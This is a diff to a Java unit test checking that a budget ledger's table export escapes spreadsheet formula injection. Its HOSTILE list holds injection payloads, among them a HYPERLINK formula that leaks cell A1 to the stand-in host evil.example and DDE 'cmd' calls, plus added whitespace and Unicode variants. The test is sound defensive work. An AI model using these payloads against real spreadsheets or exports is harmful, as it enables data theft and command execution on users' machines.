@@ -14,7 +14,8 @@ import org.publicbudget.ledger.domain.money.FundingSource;
 class TableFilesTest {
 
     private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1,1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
+            "-2+3", "@SUM(1,1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "    =HYPERLINK(\"http://evil.example\")", "\u3000=1+1",
+            "\u00A0+1", "＝1+1");
 
     @Test
     void noTextCellStartsLikeAFormulaAndEachStaysReadable() {
@@ -31,7 +32,7 @@ class TableFilesTest {
                 cells.add(cell.replace("\"\"", "\""));
             }
         }
-        assertThat(cells).filteredOn(cell -> !cell.equals("-0.01")).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+        assertThat(cells).filteredOn(cell -> !cell.equals("-0.01")).noneMatch(cell -> !cell.isBlank() && "=+-@\t\r".indexOf(cell.strip().charAt(0)) >= 0);
         for (String name : HOSTILE) {
             assertThat(cells).as("shown as written, behind an apostrophe").contains("'" + name);
         }
